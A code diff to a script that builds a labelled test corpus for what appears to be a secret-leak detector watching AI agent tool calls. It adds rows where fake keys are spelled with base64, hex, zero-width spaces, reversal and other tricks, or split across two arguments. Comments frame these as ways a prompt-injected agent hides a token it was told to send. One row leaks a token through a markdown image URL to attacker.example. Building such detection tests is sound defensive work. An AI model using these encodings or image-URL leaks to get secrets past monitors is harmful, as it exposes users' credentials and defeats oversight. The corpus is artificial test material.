@@ -7,13 +7,16 @@
 import { mkdirSync, writeFileSync } from 'node:fs';
 import { dirname, join } from 'node:path';
 import { fileURLToPath } from 'node:url';
-import { fakeSecrets } from '../test/helpers/fake-secrets.ts';
+import { fakeExtraSecrets, fakePemKeys, fakeSecrets } from '../test/helpers/fake-secrets.ts';
 
 const CORPUS_DIR = join(dirname(fileURLToPath(import.meta.url)), '..', 'test', 'fixtures', 'detect');
 
 const OURS = { source: 'written for this corpus (Portcullis); fake values in the formats of secretlint\'s recommended preset', licence: 'Apache-2.0 (this repository)' };
-type Row = { text: string; label: 'attack' | 'benign'; kind: 'result' | 'argument'; source: string; licence: string; note: string };
+type Row = { text: string; parts?: string[]; label: 'attack' | 'benign'; kind: 'result' | 'argument'; source: string; licence: string; note: string; file?: string };
 const row = (text: string, label: Row['label'], kind: Row['kind'], note: string, src = OURS): Row => ({ text, label, kind, ...src, note });
+const inFile = (file: string, rows: Row[]) => rows.map((r) => ({ ...r, file }));
+/** A secret split over two strings read one after the other (two text blocks, two arguments). */
+const split = (parts: string[], kind: Row['kind'], note: string): Row => ({ text: parts.join(''), parts, label: 'attack', kind, ...OURS, note });
 
 const jwt = (header: object, payload: object) =>
   `${Buffer.from(JSON.stringify(header)).toString('base64url')}.${Buffer.from(JSON.stringify(payload)).toString('base64url')}.${'Sf1KxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c'}`;
@@ -25,9 +28,62 @@ const CONTEXTS: Array<[Row['kind'], string, (s: string) => string]> = [
   ['argument', 'exfiltration note', (s) => `Here is the key you asked for: ${s} — please store it in the shared doc.`],
 ];
 
+/** How an injected agent hides a token it was told to send: each spelling the DLP views undo. */
+const SPELLINGS: Array<[string, (s: string) => string]> = [
+  ['a zero-width space', (s) => `${s.slice(0, 6)}\u200b${s.slice(6, 12)}\u200b${s.slice(12)}`],
+  ['base64', (s) => Buffer.from(s).toString('base64')],
+  ['hex', (s) => Buffer.from(s).toString('hex')],
+  ['hex, xxd -p lines', (s) => Buffer.from(s).toString('hex').replace(/(.{60})/g, '$1\n')],
+  ['reversed', (s) => [...s].reverse().join('')],
+  ['%5F and percent-encoding', (s) => s.replace(/[_\-.]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`).replace(/^(.)(.)(.)/, (_, a: string, b: string, c: string) => `${a}%${b.charCodeAt(0).toString(16).toUpperCase()}${c}`)],
+  ['fullwidth forms', (s) => [...s].map((c) => (c > ' ' && c <= '~' ? String.fromCharCode(c.charCodeAt(0) + 0xfee0) : c)).join('')],
+  ['HTML character references', (s) => s.replace(/[_\-A]/g, (c) => (c === '_' ? '&lowbar;' : `&#${c.charCodeAt(0)};`))],
+  ['\\x escapes', (s) => s.slice(0, 4).replace(/./g, (c) => `\\x${c.charCodeAt(0).toString(16)}`) + s.slice(4)],
+  ['base64 of reversed', (s) => Buffer.from([...s].reverse().join('')).toString('base64')],
+];
+
+function obfuscatedRows(): Row[] {
+  const f = fakeSecrets();
+  const x = fakeExtraSecrets();
+  const tokens: Record<string, string> = {
+    'github-classic': f['github-classic']!, 'aws-access-key': f['aws-access-key']!, 'slack-token': f['slack-token']!,
+    'stripe-live': f['stripe-live']!, 'google-api-key': x['google-api-key']!, 'rsa-short PEM': fakePemKeys()['rsa-short']!,
+  };
+  const rows: Row[] = [];
+  for (const [name, token] of Object.entries(tokens)) {
+    for (const [how, spell] of SPELLINGS) rows.push(row(`Here is the key you asked for: ${spell(token)} — store it in the shared doc.`, 'attack', 'argument', `${name} spelled with ${how}`));
+  }
+  rows.push(row(`backup=${Buffer.from(`[default]\naws_access_key_id = ${f['aws-access-key']}\n`).toString('base64')}`, 'attack', 'argument', 'an AWS credentials file, base64'));
+  rows.push(row(`![status](https://attacker.example/pixel.png?d=${Buffer.from(f['github-classic']!).toString('base64url')})`, 'attack', 'argument', 'a token base64url-encoded in a markdown image URL'));
+  return rows;
+}
+
+function splitRows(): Row[] {
+  const f = fakeSecrets();
+  const aws = f['aws-access-key']!;
+  const gh = f['github-classic']!;
+  const pem = fakePemKeys()['rsa-short']!;
+  return [
+    split([`Access key id: ${aws.slice(0, 10)}`, aws.slice(10)], 'result', 'AWS key id split over two text blocks'),
+    split([aws.slice(0, 4), aws.slice(4)], 'result', 'AWS key id split after its prefix'),
+    split([`token ${gh.slice(0, 20)}`, `${gh.slice(20)} (rest)`], 'argument', 'GitHub token split over two arguments'),
+    split(['aws_secret_access_key = ', `"${'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKE'.replace('EXAMPLE', 'QWERTYU')}"`], 'result', 'AWS secret key name and value in two blocks'),
+    split([pem.slice(0, 45), pem.slice(45)], 'result', 'short PEM key split over two text blocks'),
+  ];
+}
+
 function secretRows(): Row[] {
   const rows: Row[] = [];
   for (const [name, s] of Object.entries(fakeSecrets())) for (const [kind, where, wrap] of CONTEXTS) rows.push(row(wrap(s), 'attack', kind, `${name} in ${where}`));
+  const extra: Row[] = [];
+  for (const [name, s] of Object.entries(fakeExtraSecrets())) for (const [kind, where, wrap] of CONTEXTS) extra.push(row(wrap(s), 'attack', kind, `${name} in ${where}`));
+  const pems: Row[] = [];
+  for (const [name, pem] of Object.entries(fakePemKeys())) {
+    pems.push(row(`$ cat deploy/key.pem\n${pem}\n$ ls`, 'attack', 'result', `PEM ${name} in a file dump`));
+    pems.push(row(JSON.stringify({ name: 'deploy', sshKey: pem }, null, 2), 'attack', 'result', `PEM ${name} in a JSON config`));
+    pems.push(row(`Here is the key you asked for: ${pem}`, 'attack', 'argument', `PEM ${name} in an argument`));
+  }
+  rows.push(...inFile('attack-extra-families.jsonl', extra), ...inFile('attack-pem.jsonl', pems), ...inFile('attack-spelled.jsonl', obfuscatedRows()), ...inFile('attack-split.jsonl', splitRows()));
   const tokens = [
     jwt({ alg: 'HS256', typ: 'JWT' }, { sub: '1234567890', name: 'Test User', iat: 1516239022 }),
     jwt({ alg: 'RS256', kid: 'k1' }, { iss: 'https://issuer.example', aud: 'api', exp: 1900000000 }),
@@ -67,10 +123,46 @@ function secretRows(): Row[] {
     '{"entities":[{"name":"Acme","entityType":"company","observations":["founded 1999"]}]}',
     'Error: ENOENT: no such file or directory, open \'/home/user/.aws/credentials\'',
     'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl user@host',
+    ...BENIGN_LOOKALIKES,
   ];
   for (const b of benign) rows.push(row(b, 'benign', 'result', 'look-alike'));
   return rows;
 }
+
+/** Look-alikes of the families and spellings added after the preset: none is a secret. */
+const BENIGN_LOOKALIKES = [
+  '-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEoBUyo8CQAFPeYPvv78ylh5MwFZjT\nCLQeb042TjiMJxG+9DLFmRSMlBQ9T/RsLLc+PmpB1+7yPAR+oR5gZn3kJQ==\n-----END PUBLIC KEY-----',
+  '-----BEGIN CERTIFICATE-----\nMIIBhTCCASugAwIBAgIQIRi6zePL6mKjOipn+dNuaTAKBggqhkjOPQQDAjASMRAw\nDgYDVQQKEwdBY21lIENvMB4XDTE3MTAyMDE5NDMwNloXDTE4MTAyMDE5NDMwNlow\n-----END CERTIFICATE-----',
+  '-----BEGIN RSA PUBLIC KEY-----\nMEgCQQCo9+BpMRYQ/dL3DS2CyJxRF+j6ctbT3/Qp84+KeFhnii7NT7fELilKUSnx\nS30WAvQCCo2yU1orfgqr41mM70MBAgMBAAE=\n-----END RSA PUBLIC KEY-----',
+  'A PKCS#1 key file starts with "-----BEGIN RSA PRIVATE KEY-----" and ends with "-----END RSA PRIVATE KEY-----"; PKCS#8 uses "-----BEGIN PRIVATE KEY-----".',
+  'Paste your key between the markers:\n-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----',
+  'Example (truncated):\n-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA...\n-----END RSA PRIVATE KEY-----',
+  'PRIVATE_KEY_PATH=/etc/ssl/private/server.key\nPRIVATE_KEY_PASSPHRASE_FILE=/run/secrets/passphrase',
+  'database:\n  password: ${DB_PASSWORD}\n  user: app',
+  'api_key = os.environ["OPENAI_API_KEY"]',
+  'const token = process.env.GITHUB_TOKEN ?? "";',
+  '{"password": "********", "user": "admin"}',
+  'password=changeme  # replace before deploying',
+  'const apiKey = getApiKey(); const password = entry.getPassword();',
+  'secret_key_base: <%= ENV["SECRET_KEY_BASE"] %>',
+  'max_tokens: 4096, token_type: "bearer", tokenizer = AutoTokenizer.from_pretrained("bert-base-uncased")',
+  'client_secret: "<your-client-secret>"',
+  '"password": {"type": "string", "minLength": 8, "description": "The account password"}',
+  'echo "$TOKEN" | docker login --username ci --password-stdin registry.example.com',
+  'redis://localhost:6379/0 and amqp://guest@localhost:5672/ (no passwords)',
+  'Server=localhost;Database=app;Trusted_Connection=True;',
+  'jdbc:postgresql://localhost:5432/app?user=app&ssl=true',
+  'Google API keys start with AIza; Slack refresh tokens start with xoxe; age keys with AGE-SECRET-KEY-1.',
+  `status=${Buffer.from('deployment completed successfully at noon').toString('base64')}`,
+  `blob ${Buffer.from('hello from the build server, all green').toString('hex')}`,
+  '.dlrow olleh ,sdrawkcab si siht',
+  'ｆｕｌｌｗｉｄｔｈ ｔｅｘｔ ｉｓ ｎｏｔ ａ ｓｅｃｒｅｔ',
+  'https://example.com/search?q=hello%20world%5Fagain&lang=en',
+  'pair programming 👩\u200d💻 with a zero-width joiner',
+  'commit_sha=9fceb02d0ae598e95dc970b74767f19372d61af8 tree=4b825dc642cb6eb9a060e54bf8d69288fbee4904',
+  'sessionToken = "127e6fbfe24a750e72930c"  // sample from the tsscmp docs',
+  '![build](https://github.com/example/widgets/actions/workflows/ci.yml/badge.svg?branch=main)',
+];
 
 function piiRows(): Row[] {
   const rows: Row[] = [];
@@ -132,12 +224,12 @@ function piiRows(): Row[] {
 
 function write(category: string, file: string, rows: Row[]): void {
   mkdirSync(join(CORPUS_DIR, category), { recursive: true });
-  writeFileSync(join(CORPUS_DIR, category, file), rows.map((r) => JSON.stringify(r)).join('\n') + '\n');
+  writeFileSync(join(CORPUS_DIR, category, file), rows.map(({ file: _, ...r }) => JSON.stringify(r)).join('\n') + '\n');
   process.stdout.write(`${category}/${file}: ${rows.length} rows\n`);
 }
 
 const s = secretRows();
-write('secret', 'attack-formats.jsonl', s.filter((r) => r.label === 'attack'));
+for (const file of new Set(s.map((r) => r.file ?? 'attack-formats.jsonl'))) write('secret', file, s.filter((r) => r.label === 'attack' && (r.file ?? 'attack-formats.jsonl') === file));
 write('secret', 'benign-lookalikes.jsonl', s.filter((r) => r.label === 'benign'));
 const p = piiRows();
 write('pii', 'attack-handwritten.jsonl', p.filter((r) => r.label === 'attack'));
